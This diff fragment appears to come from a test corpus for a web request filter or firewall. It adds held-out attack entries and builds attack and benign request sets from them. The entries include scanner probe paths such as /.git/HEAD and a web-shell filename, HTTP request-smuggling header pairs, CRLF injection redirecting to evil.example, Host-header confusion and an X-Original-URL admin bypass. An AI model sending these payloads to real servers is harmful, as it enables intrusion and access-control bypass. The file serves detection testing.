+    ("scanner", "path", "/_profiler/phpinfo"),
+    ("scanner", "path", "/phpinfo.php"),
+    ("scanner", "path", "/console/login/LoginForm.jsp"),
+    ("scanner", "path", "/jenkins/script"),
+    ("scanner", "path", "/.git/HEAD"),
+    ("scanner", "path", "/sftp-config.json"),
+    ("scanner", "path", "/c99.php"),
+    ("protocol", "method", "TRACK"),
+    ("protocol", "header:Transfer-Encoding", "chunked, chunked"),
+    ("protocol", "header:Content-Length", "-1"),
+    ("protocol", "header:Host", "shop.example.com:@evil.example"),
+    ("protocol", "raw", "%0d%0aLocation:%20http://evil.example"),
+    ("protocol", "raw", "foo%0d%0a%0d%0a%3Chtml%3Einjected"),
+    ("protocol", "header:X-HTTP-Method-Override", "TRACE"),
+    ("protocol", "header:Content-Type", "application/x-www-form-urlencoded, application/json"),
+    ("protocol", "header:Range", "bytes=-1,-2,-3,-4,-5,-6,-7,-8"),
+    ("protocol", "path", "/index.html%00.php"),
+    ("protocol", "header:Upgrade", "h2c"),
+    ("protocol", "header:X-Original-URL", "/admin"),
+    ("protocol", "headers", "Transfer-Encoding: chunked\nContent-Length: 4"),
+    ("protocol", "headers", "Content-Length: 4\nTransfer-Encoding: gzip, chunked"),
+    ("protocol", "method", "MOVE"),
+)
+
+
+def heldout4_attacks() -> list[CorpusRequest]:
+    """The fourth held-out attack set, each payload delivered the way its entry names."""
+    return [_deliver(c, how, p, f"held-out-4 {how}: {p[:120]}") for c, how, p in HELDOUT4_ATTACKS]
+
+
+def heldout4_benign() -> list[CorpusRequest]:
+    """The fourth held-out benign set: free text, queries, paths, JSON, headers, HTTP features."""
+    out = _benign_set(
+        "held-out-4",
+        HELDOUT4_BENIGN_TEXT,
+        HELDOUT4_BENIGN_QUERIES,
+        HELDOUT4_BENIGN_PATHS,
+        HELDOUT4_BENIGN_JSON,
+        HELDOUT4_BENIGN_COOKIES,
+        HELDOUT4_BENIGN_REFERERS,
+        HELDOUT4_BENIGN_UAS,
+    )
+    return out + _requests("held-out-4", HELDOUT4_BENIGN_REQUESTS)
